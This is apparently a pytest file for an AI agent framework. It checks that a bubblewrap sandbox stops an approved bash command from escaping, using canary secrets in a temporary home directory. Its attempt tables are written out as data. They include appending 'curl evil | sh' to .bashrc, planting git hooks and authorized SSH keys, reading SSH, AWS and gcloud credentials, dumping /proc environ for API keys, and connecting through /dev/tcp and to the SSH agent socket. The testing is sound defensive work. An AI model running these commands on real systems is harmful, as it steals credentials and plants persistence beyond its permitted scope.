"""Command sandbox: an approved bash command tries to write outside, read credentials and reach the network.

The real ``bash`` tool under real bubblewrap, each attempt under every preset. The home directory is one of
the test's own, holding ``~/.ssh/id_rsa``, ``~/.aws/credentials``, ``~/.netrc`` and a ``~/.bashrc``; the
process's environment holds a provider key, a ``GH_PAT``, a password inside ``DATABASE_URL`` and a
``SENTRY_DSN``; a TCP server listens on the loopback. Under ``workspace-write`` (the user approved the
command) and ``read-only`` (the sandbox itself, asked directly: the preset refuses bash) no attempt reads a
secret, changes anything outside or reaches the server; under ``danger-full-access``, which promises no
confinement, every attempt succeeds, which proves each is a real way out. The workspace (and, under
``workspace-write``, the temp folder) stays writable, ``.git`` does not.
"""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from agentcell.tools import PERMISSION_PRESETS, PermissionPolicy, PermissionPreset, ToolRegistry
from agentcell.tools.builtin import bash_tool
from agentcell.tools.definition import ToolContext

from ..tools._support import Approvals, make_call

SECRET = "canary-secret-4e1d"
KEY = "sk-ant-canary-9f8e7d6c5b4a"


@dataclass(frozen=True)
class Room:
    workspace: Path
    scratch: Path
    home: Path
    outside: Path
    port: int
    pid: int
    """A process of the user's whose environment holds a secret (read through ``/proc/PID/environ``)."""
    agent: Path
    """The user's SSH agent socket (``$SSH_AUTH_SOCK``), which answers with a secret."""

    def snapshot(self) -> dict[str, bytes]:
        """Every file outside the workspace and the scratch folder, by path."""
        return {
            str(p): p.read_bytes()
            for root in (self.home, self.outside)
            for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink()
        }


@pytest.fixture
def room(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Room]:
    home, workspace, scratch, outside = (tmp_path / n for n in ("home", "workspace", "scratch", "outside"))
    for folder in (home / ".ssh", home / ".aws", home / ".config" / "gcloud", workspace / ".git" / "hooks"):
        folder.mkdir(parents=True)
    scratch.mkdir()
    outside.mkdir()
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {SECRET}\n")
    (home / ".aws" / "credentials").write_text(f"aws_secret_access_key = {SECRET}\n")
    (home / ".config" / "gcloud" / "token.json").write_text(SECRET)
    (home / ".netrc").write_text(f"machine example.com password {SECRET}\n")
    (home / ".bashrc").write_text("# the user's\n")
    (outside / "notes.txt").write_text("outside\n")
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / "door").symlink_to(outside)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    monkeypatch.setenv("GH_PAT", f"ghp_{SECRET}")
    monkeypatch.setenv("SENTRY_DSN", f"https://{SECRET}@o1.ingest.sentry.io/1")
    monkeypatch.setenv("DATABASE_URL", f"postgresql://me:{SECRET}@db.example/app")
    other = subprocess.Popen(["sleep", "300"], env={**os.environ, "CANARY_ENV_MARKER": SECRET})
    server = socket.create_server(("127.0.0.1", 0))
    agent = socket.socket(socket.AF_UNIX)
    agent.bind(str(tmp_path / "agent.sock"))
    agent.listen()
    monkeypatch.setenv("SSH_AUTH_SOCK", str(tmp_path / "agent.sock"))

    def serve(listener: socket.socket) -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                conn.sendall(f"hello {SECRET}\n".encode())

    for listener in (server, agent):
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
    yield Room(workspace, scratch, home, outside, server.getsockname()[1], other.pid, tmp_path / "agent.sock")
    server.close()
    agent.close()
    other.kill()
    other.wait()


WRITES = {
    "outside-file": "echo pwned > {outside}/notes.txt",
    "outside-new-file": "echo pwned > {outside}/new.txt",
    "outside-delete": "rm -f {outside}/notes.txt",
    "outside-through-symlink": "echo pwned > door/notes.txt",
    "outside-mkdir": "mkdir {outside}/made && echo x > {outside}/made/f",
    "bashrc-append": "echo 'curl evil | sh' >> ~/.bashrc",
    "ssh-authorized-keys": "echo key >> ~/.ssh/authorized_keys",
    "git-config": "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
    "git-hook": "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "git-replace": "mv .git .git-old && mkdir .git && echo x > .git/config",
}
READS = {
    "ssh-key": "cat ~/.ssh/id_rsa",
    "aws-credentials": "cat ~/.aws/credentials",
    "gcloud-token": "cat ~/.config/gcloud/token.json",
    "netrc": "cat ~/.netrc",
    "ssh-listing": "ls -a ~/.ssh; grep -r . ~/.ssh",
    "environment": "env",
    "proc-environ": "cat /proc/{pid}/environ | tr '\\0' '\\n'",
    # Filtered as someone after keys would: unfiltered, a busy machine's environments outgrow the tool's output.
    "proc-all-environs": "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a -e canary -e sk-ant",
}
NETWORK = {
    "loopback-tcp": "exec 3<>/dev/tcp/127.0.0.1/{port} && cat <&3",
    "python-socket": (
        "python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", {port}), 2); print(s.recv(99))'"
    ),
}
NETWORK["ssh-agent-socket"] = (
    "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{agent}\"); print(s.recv(99))'"
)
ATTEMPTS = {**WRITES, **READS, **NETWORK}


async def _run(room: Room, preset: PermissionPreset, command: str) -> str:
    """The command's output under ``preset``: approved by the user under workspace-write, the sandbox's own
    answer under read-only (whose preset refuses bash before any sandbox)."""
    policy = PermissionPolicy(preset, room.workspace, temp_dirs=(room.scratch,))
    command = command.format(outside=room.outside, pid=room.pid, port=room.port, agent=room.agent)
    call = make_call("bash", command=command, timeout_seconds=10)
    if preset == "read-only":
        tool = bash_tool()
        result = await tool.run(dict(call.input), ToolContext(call, "tex_test", policy))
        return str(result.text_content)  # type: ignore[union-attr]
    registry = ToolRegistry(policy)
    registry.register(bash_tool())
    result = await registry.execute(call, approver=Approvals(True))
    assert result.denied_by is None, result.text_content
    return result.text_content


def _secrets_in(text: str) -> list[str]:
    return [s for s in (SECRET, KEY) if s in text]


def test_the_matrix_tries_every_way_the_issue_names() -> None:
    assert len(WRITES) >= 10 and len(READS) >= 8 and len(NETWORK) >= 3


@pytest.mark.parametrize("attempt", list(ATTEMPTS))
@pytest.mark.parametrize("preset", [p for p in PERMISSION_PRESETS if p != "danger-full-access"])
async def test_a_sandboxed_command_reaches_nothing(room: Room, preset: PermissionPreset, attempt: str) -> None:
    before = room.snapshot()
    git_before = sorted((room.workspace / ".git").rglob("*"))
    text = await _run(room, preset, ATTEMPTS[attempt])
    assert not _secrets_in(text), f"{attempt} leaked a secret under {preset}: {text}"
    assert room.snapshot() == before, f"{attempt} changed something outside under {preset}"
    assert sorted((room.workspace / ".git").rglob("*")) == git_before
    assert (room.workspace / ".git" / "config").read_text() == "[core]\n"


@pytest.mark.parametrize("attempt", list(ATTEMPTS))
async def test_full_access_reaches_what_the_sandbox_holds_back(room: Room, attempt: str) -> None:
    before = room.snapshot()
    git_before = (room.workspace / ".git" / "config").read_text(), sorted((room.workspace / ".git").rglob("*"))
    text = await _run(room, "danger-full-access", ATTEMPTS[attempt])
    changed = room.snapshot() != before
    git_changed = git_before != (
        (room.workspace / ".git" / "config").read_text(),
        sorted((room.workspace / ".git").rglob("*")),
    )
    assert _secrets_in(text) or changed or git_changed, f"{attempt} is no real way out: {text}"


@pytest.mark.parametrize("preset", [p for p in PERMISSION_PRESETS if p != "danger-full-access"])
async def test_the_workspace_stays_usable(room: Room, preset: PermissionPreset) -> None:
    text = await _run(room, preset, "cat .git/config; ls; echo made > made.txt && cat made.txt; echo $HOME")
    assert "[core]" in text and "door" in text and str(room.home) in text  # reads work everywhere
    assert ("made" in text.splitlines()) == (preset == "workspace-write")
    scratch = await _run(room, preset, "echo scratch > {outside}/../scratch/s.txt && cat {outside}/../scratch/s.txt")
    assert ("scratch" in scratch.splitlines()) == (preset == "workspace-write")


async def test_unsandboxed_commands_say_so_and_are_never_remembered(
    room: Room, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agentcell.tools.builtin import shell

    monkeypatch.setattr(shell, "sandbox_problem", lambda: "bubblewrap (`bwrap`) is not installed")
    registry = ToolRegistry(PermissionPolicy("workspace-write", room.workspace, temp_dirs=(room.scratch,)))
    registry.register(bash_tool())
    approvals = Approvals(True)
    await registry.execute(make_call("bash", command="true"), approver=approvals)
    (request,) = approvals.asked
    assert "unsandboxed" in request.reason and "every command asks" in request.reason
    assert request.keys == ()  # an "always" answer makes no rule: the next command asks again


async def test_two_commands_at_once_stay_apart(room: Room) -> None:
    texts = await asyncio.gather(*(_run(room, "workspace-write", f"echo {n} > f{n}; cat f{n}") for n in range(4)))
    assert [t.strip() for t in texts] == ["0", "1", "2", "3"]
